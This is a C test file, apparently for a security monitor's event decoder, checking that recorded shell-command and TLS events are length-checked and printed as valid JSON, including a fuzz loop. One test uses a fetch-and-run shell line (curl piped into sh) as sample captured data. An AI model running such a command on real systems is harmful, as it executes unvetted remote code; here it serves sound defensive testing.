// SPDX-License-Identifier: GPL-2.0
/* The application family's decoder (shell, tls) trusts no length; its output is always JSON. */
#include "harness.h"
#include "events/event.h"
#include "events/family.h"
#include "vigil/ev_app.h"

#include <errno.h>
#include <json-c/json.h>
#include <stddef.h>
#include <stdlib.h>

/* The family's JSON members wrapped in an object, parsed back; NULL when not valid JSON. */
static struct json_object *family_json(const struct event *ev)
{
	struct json_object *o;
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	fputs("{\"x\":0", out);
	event_family_of(ev->type)->json(out, ev);
	fputc('}', out);
	fclose(out);
	o = json_tokener_parse(buf);
	free(buf);
	return o;
}

static const char *jpath(struct json_object *o, const char *a, const char *b)
{
	struct json_object *x, *y;

	if (!json_object_object_get_ex(o, a, &x) || !json_object_object_get_ex(x, b, &y))
		return NULL;
	return json_object_get_string(y);
}

TEST(shell_line_decodes_with_its_length_checked)
{
	static const char line[] = "curl -s \"http://x/i.sh\" | sh\t# \x01";
	size_t fixed = offsetof(struct vigil_shell_event, line);
	struct vigil_shell_event r = { .hdr = { .type = VIGIL_EV_SHELL } };
	struct json_object *o;
	struct event ev;

	memcpy(r.line, line, sizeof(line) - 1);
	r.line_len = sizeof(line) - 1;
	r.hdr.size = fixed + r.line_len;
	if (!ASSERT_OK(event_decode(&r, r.hdr.size, &ev), "decode"))
		return;
	ASSERT_STREQ(event_type_name(ev.type), "shell", "type name");
	o = family_json(&ev);
	if (ASSERT_NOT_NULL(o, "valid JSON")) {
		ASSERT_STREQ(jpath(o, "shell", "line"), line, "the line, escaped and back");
		ASSERT_STREQ(jpath(o, "shell", "truncated"), "false", "not cut");
		json_object_put(o);
	}
	ASSERT_EQ(event_decode(&r, r.hdr.size - 1, &ev), -EINVAL, "a line past the record");
	r.line_len = VIGIL_SHELL_LINE_MAX;
	r.hdr.size = sizeof(r);
	ASSERT_EQ(event_decode(&r, sizeof(r), &ev), -EINVAL, "a length the kernel cannot send");
}

TEST(tls_record_decodes_peer_only_when_seen)
{
	struct vigil_tls_event r = {
		.hdr = { .type = VIGIL_EV_TLS, .size = sizeof(r) },
		.rx_bytes = 1256,
		.tx_bytes = 77,
		.reads = 2,
		.writes = 1,
		.daddr = { 127, 0, 0, 1 },
		.dport = 443,
		.family = 2,
		.sni_len = 11,
		.sni = "example.org",
	};
	struct json_object *o;
	struct event ev;

	if (!ASSERT_OK(event_decode(&r, sizeof(r), &ev), "decode"))
		return;
	o = family_json(&ev);
	if (ASSERT_NOT_NULL(o, "valid JSON")) {
		ASSERT_STREQ(jpath(o, "tls", "sni"), "example.org", "sni");
		ASSERT_STREQ(jpath(o, "tls", "rx_bytes"), "1256", "rx_bytes");
		ASSERT_TRUE(!jpath(o, "tls", "peer"), "no peer without VIGIL_TLS_PEER");
		json_object_put(o);
	}
	r.hdr.flags = VIGIL_TLS_PEER;
	o = family_json(&ev);
	if (ASSERT_NOT_NULL(o, "valid JSON")) {
		struct json_object *tls, *peer;

		json_object_object_get_ex(o, "tls", &tls);
		ASSERT_TRUE(json_object_object_get_ex(tls, "peer", &peer), "the peer");
		ASSERT_STREQ(jpath(tls, "peer", "addr"), "127.0.0.1", "its address");
		json_object_put(o);
	}
	ASSERT_EQ(event_decode(&r, sizeof(r) - 1, &ev), -EINVAL, "truncated by one byte");
	r.sni_len = VIGIL_TLS_SNI_MAX;
	ASSERT_EQ(event_decode(&r, sizeof(r), &ev), -EINVAL, "an SNI longer than its room");
}

TEST(random_app_records_never_break)
{
	unsigned int seed = 23;
	int decoded = 0;
	struct event ev;

	for (int i = 0; i < 30000; i++) {
		size_t size = rand_r(&seed) % (sizeof(struct vigil_shell_event) + 64);
		unsigned char *buf = malloc(size ? size : 1);
		struct vigil_event_hdr *hdr = (void *)buf;

		for (size_t j = 0; j < size; j++)
			buf[j] = rand_r(&seed);
		if (size >= sizeof(*hdr)) {
			hdr->type = VIGIL_EV_APP_FIRST + rand_r(&seed) % 4;
			if (rand_r(&seed) & 1)
				hdr->size = size;
		}
		/* plausible lengths, so that some records pass and get printed */
		if (size > 136 && (rand_r(&seed) & 1)) {
			buf[81] = buf[82] = buf[83] = 0;
			buf[133] = 0;
		}
		if (!event_decode(buf, size, &ev)) {
			struct json_object *o = family_json(&ev);

			decoded++;
			if (!o)
				ASSERT_NOT_NULL(o, "a record that decodes prints valid JSON");
			json_object_put(o);
		}
		free(buf);
	}
	ASSERT_GE(decoded, 1, "some random records decoded (the printers were exercised)");
}
